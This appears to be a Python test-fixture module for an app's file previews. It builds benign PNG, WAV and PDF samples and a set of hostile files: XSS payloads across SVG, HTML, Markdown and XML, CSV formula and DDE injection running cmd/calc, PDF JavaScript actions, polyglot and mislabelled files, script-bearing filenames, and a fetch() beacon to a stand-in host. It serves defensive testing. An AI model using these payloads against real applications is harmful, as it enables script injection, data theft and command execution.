"""Files for the previews: harmless ones of each kind, and hostile ones that try to run in the app's origin.

Whatever runs sets `window.__pwned`, opens a dialog, or asks `ELSEWHERE` for something.
"""

# ruff: noqa: E501 - attacks stand here as they are sent

import io
import struct
import wave
import zlib

ELSEWHERE = "https://elsewhere.invalid"
ATTACK = f"window.__pwned=1;top.__pwned=1;alert(1);fetch('{ELSEWHERE}/stolen')"
"""For an attribute in double quotes."""


def png(width: int, height: int, *, bits: int = 8) -> bytes:
    """Stripes of blue and white; with one bit for each pixel it is tiny however large it claims to be."""
    if bits == 1:
        return _png(width, height, b"\x01\x00", _rows(height, b"\x00" + bytes((width + 7) // 8)))
    rows = (
        b"\x00" + b"".join(b"\x24\x56\xd6" if (x // 20 + y // 20) % 2 else b"\xf0\xf4\xff" for x in range(width))
        for y in range(height)
    )
    return _png(width, height, b"\x08\x02", zlib.compress(b"".join(rows)))


def _rows(height: int, row: bytes) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(row) for _ in range(height)) + packer.flush()


def _png(width: int, height: int, depth: bytes, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">II", width, height) + depth + b"\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def wav(seconds: float = 1.0) -> bytes:
    file = io.BytesIO()
    with wave.open(file, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"".join(struct.pack("<h", (at * 400) % 20000 - 10000) for at in range(int(8000 * seconds))))
    return file.getvalue()


def pdf(pages: int = 2, *, catalog: str = "", page: str = "", say: str = "Page {} of the plan") -> bytes:
    """A PDF of plain pages, each of which says so; `catalog` and `page` are put into those dictionaries."""
    bodies = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>"]
    kids = " ".join(f"{4 + 2 * at} 0 R" for at in range(pages))
    bodies += [
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for at in range(pages):
        text = f"BT /F1 36 Tf 72 700 Td ({say.format(at + 1)}) Tj ET 0.14 0.34 0.84 rg 72 400 300 200 re f"
        bodies.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {5 + 2 * at} 0 R"
            f" /Resources << /Font << /F1 3 0 R >> >> {page} >>"
        )
        bodies.append(f"<< /Length {len(text)} >>\nstream\n{text}\nendstream")
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(out)
    size = len(bodies) + 1
    return (
        out
        + f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer << /Size {size} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    )


_SVG = f"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200" onload="{ATTACK}">
<script>{ATTACK.replace("&", "&amp;")}</script>
<style>@import url({ELSEWHERE}/style.css); rect {{ fill: #2456d6 }}</style>
<rect width="300" height="200"/>
<image href="{ELSEWHERE}/pixel.png" width="10" height="10"/>
<foreignObject width="300" height="100"><body xmlns="http://www.w3.org/1999/xhtml" onload="{ATTACK}"><img src="x" onerror="{ATTACK}"/>
<iframe src="javascript:{ATTACK}"></iframe></body></foreignObject>
<a xlink:href="javascript:{ATTACK}"><text x="10" y="20">click</text></a>
</svg>"""
_HTML = f"""<!doctype html><html><body onload="{ATTACK}"><script>{ATTACK}</script><img src=x onerror="{ATTACK}">
<link rel=stylesheet href="{ELSEWHERE}/style.css"><form action="{ELSEWHERE}"><input name=password></form>
<iframe src="javascript:{ATTACK}"></iframe><meta http-equiv=refresh content="0;url={ELSEWHERE}/"></body></html>"""
_MARKDOWN = f"""# A plan <script>{ATTACK}</script>

<img src=x onerror="{ATTACK}"> ![pixel]({ELSEWHERE}/pixel.png) ![x](javascript:{ATTACK})
[click](javascript:{ATTACK}) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<svg onload="{ATTACK}"><style>*{{background:url({ELSEWHERE}/leak)}}</style></svg>
<iframe srcdoc="<script>{ATTACK}</script>"></iframe> <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form action="{ELSEWHERE}"><input name=q><button>go</button></form> <base href="{ELSEWHERE}/"> <meta http-equiv=refresh content="0;url={ELSEWHERE}">
<details open ontoggle="{ATTACK}">more</details> <a href="{ELSEWHERE}" onclick="{ATTACK}">away</a>
<div style="background:url({ELSEWHERE}/leak);position:fixed;inset:0">over all</div>

The end of the plan.
"""
_CSV = f"""name,total
"=cmd|' /C calc'!A0","=HYPERLINK(""{ELSEWHERE}?x="",""click"")"
@SUM(1+1)*cmd|' /C calc'!A0,+1+1
<script>{ATTACK}</script>,"<img src=x onerror=""{ATTACK}"">"
-2+3,"=1+1"
"""
_SCRIPTED = {
    "catalog": f"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\('{ELSEWHERE}'\\);) >>",
    "page": f"/AA << /O << /S /URI /URI ({ELSEWHERE}) >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842]"
    f" /A << /S /URI /URI (javascript:alert(1)) >> >>]",
}

HOSTILE: dict[str, bytes] = {
    "evil.svg": _SVG.encode(),
    "evil.html": _HTML.encode(),
    "evil.xhtml": _HTML.replace("<!doctype html>", '<?xml version="1.0"?>').encode(),
    "evil.md": _MARKDOWN.encode(),
    "evil.csv": _CSV.encode(),
    "evil.pdf": pdf(1, **_SCRIPTED),
    "evil.xml": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{ELSEWHERE}/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{ATTACK}</h:script></x>'.encode(),
    "evil.js": ATTACK.encode(),
    "html-called.png": _HTML.encode(),
    "svg-called.jpg": _SVG.encode(),
    "polyglot.gif": b"GIF89a/*"
    b"\x01\x00\x01\x00" + b"\x80\x00\x00" * 3 + f"*/=1;{ATTACK}//<script>{ATTACK}</script>".encode(),
    "html-called.mp3": _HTML.encode(),
    "html-called.mp4": _HTML.encode(),
    "evil-text.pdf": pdf(1, say=f"<img src=x onerror={ATTACK}>".replace("(", "\\(").replace(")", "\\)")),
    "html-called.pdf": b"%PDF-1.7\n" + _HTML.encode(),
    "no-ending": _HTML.encode(),
    "evil.txt": b"\xef\xbb\xbf" + _HTML.encode(),
    "utf-7.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=alert(1)>.svg": _SVG.encode(),
    "'\"--><script>alert(1)<script>.md": _MARKDOWN.encode(),
}
